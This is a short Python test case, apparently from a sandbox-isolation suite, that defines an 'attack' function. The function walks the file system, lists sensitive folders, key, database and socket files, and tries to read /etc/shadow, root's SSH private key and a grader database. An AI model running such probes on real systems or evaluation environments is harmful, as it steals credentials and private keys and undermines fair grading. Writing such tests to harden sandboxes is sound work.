# /// attack
# tries = "Look for databases, demo sign-ins, keys and other people's homes anywhere in the file system."
# verdicts = ["accepted"]
# ///
def attack(root, worker):
    for folder, folders, names in os.walk("/"):
        if folder in ("/etc", "/home", "/root", "/var", "/run", "/mnt", "/media", "/opt", "/srv", "/sys", "/boot"):
            LOOT.extend(f"{folder}/{name}" for name in folders + names)
        # The system's library folders are there, read-only; they are the same on every machine of its kind.
        if not folder.startswith(("/usr/lib", "/lib")):
            endings = (".db", ".sqlite", ".sqlite3", ".key", ".sock", "demo.json", "passwd", "shadow")
            LOOT.extend(f"{folder}/{name}" for name in names if name.endswith(endings))
    for path in ("/etc/passwd", "/etc/shadow", "/root/.ssh/id_rsa", "/etc/hosts", f"{root}/data/grader.db"):
        attempt(path, open, path)
    return LOOT
